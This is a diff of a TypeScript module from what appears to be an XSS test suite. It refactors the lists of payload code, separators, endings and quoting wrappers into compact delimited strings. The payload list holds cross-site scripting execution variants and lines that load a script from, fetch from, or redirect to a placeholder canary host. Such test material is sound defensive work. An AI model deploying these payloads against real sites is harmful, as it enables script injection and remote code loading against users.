@@ -1,46 +1,21 @@
 /** What stands around and inside the payloads of the XSS tests: code, quotes, context, encoding. @module */
+
+import { listed } from '../samples/listed.ts'
 import { canaryHost } from './xss-elements.ts'
 
 export const codes: readonly string[] = [
-  'pwned(1)',
-  'pwned`1`',
-  'top.pwned(1)',
-  'self["pwned"](1)',
-  "eval('pwned(1)')",
-  '(0,pwned)(1)',
-  'setTimeout("pwned(1)")',
-  '[1].map(pwned)',
-  'throw/**/onerror=pwned,1',
-  'alert(1)',
+  ...listed(
+    'pwned(1)¦pwned`1`¦top.pwned(1)¦self["pwned"](1)¦eval(\'pwned(1)\')¦(0,pwned)(1)',
+    'setTimeout("pwned(1)")¦[1].map(pwned)¦throw/**/onerror=pwned,1¦alert(1)',
+  ),
   `import('//${canaryHost}/a.js')`,
   `fetch('//${canaryHost}/a')`,
   `location='//${canaryHost}/'`,
   'pwn\\u0065d(1)',
 ]
 
-export const separators: readonly string[] = [
-  ' ',
-  '\t',
-  '\f',
-  '/',
-  '\n',
-  ' / ',
-  ' x=1 ',
-  ' x="y" ',
-  '\r',
-]
-export const endings: readonly string[] = [
-  '>',
-  ' >',
-  '/>',
-  '//',
-  '',
-  ' <',
-  '\n>',
-  '>>',
-  ' x>',
-  ' -->',
-]
+export const separators: readonly string[] = listed(' ¦\t¦\u000c¦/¦\n¦ / ¦ x=1 ¦ x="y" ¦\r')
+export const endings: readonly string[] = listed('>¦ >¦/>¦//¦¦ <¦\n>¦>>¦ x>¦ -->')
 export const quotings: readonly ((code: string) => string)[] = [
   (code) => code,
   (code) => `"${code.replaceAll('"', '&quot;')}"`,
